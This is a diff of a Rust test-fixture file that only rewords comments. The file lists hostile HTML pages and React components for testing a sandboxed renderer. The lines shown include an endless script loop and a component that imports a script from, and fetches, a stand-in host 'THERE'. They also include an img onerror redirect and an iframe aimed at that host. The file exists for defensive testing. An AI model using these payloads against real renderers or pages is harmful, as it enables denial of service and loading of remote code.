@@ -1,14 +1,14 @@
-//! Pages and components that attack their renderer. `THERE` stands for the address of a server that
-//! must never hear of them.
+//! Pages and components that attack their renderer. `THERE` is the address of a server that must
+//! receive no request.
 
-/// End that a page must come to.
+/// Expected outcome of a page.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Expected {
-    /// A render.
+    /// Rendered image.
     Renders,
-    /// An error whose text contains one of these.
+    /// Error whose text contains one of these.
     Fails(&'static [&'static str]),
-    /// Either, by how fast the machine is.
+    /// Either, depending on the speed of the machine.
     Either,
 }
 
@@ -17,7 +17,7 @@ use Expected::{Either, Fails, Renders};
 const ENDLESS: Expected = Fails(&["did not settle"]);
 const MEMORY: Expected = Fails(&["more than 512 MB", "its page ended", "did not settle"]);
 
-/// Pages of HTML by name.
+/// HTML pages by name.
 pub const PAGES: [(&str, Expected, &str); 42] = [
     ("endless_loop", ENDLESS, "<p>a</p><script>for (;;);</script>"),
     (
@@ -251,7 +251,7 @@ pub const COMPONENTS: [(&str, Expected, &str); 11] = [
         "import { useEffect } from 'react';\nexport default () => { useEffect(() => { import(['http:', '', 'THERE', 'a.js'].join('/')).catch(() => {}); fetch('http://THERE/').catch(() => {}); }, []); return <p>a</p>; };",
     ),
     (
-        // It leaves itself while it loads, and is refused: on a busy machine its load may not end.
+        // It navigates away while loading and is refused: on a busy machine its load may not end.
         "markup",
         Either,
         "export default () => <div dangerouslySetInnerHTML={{ __html: `a<img src=x onerror=\"location = 'http://THERE/'\"><iframe src=http://THERE/></iframe>` }} />;",
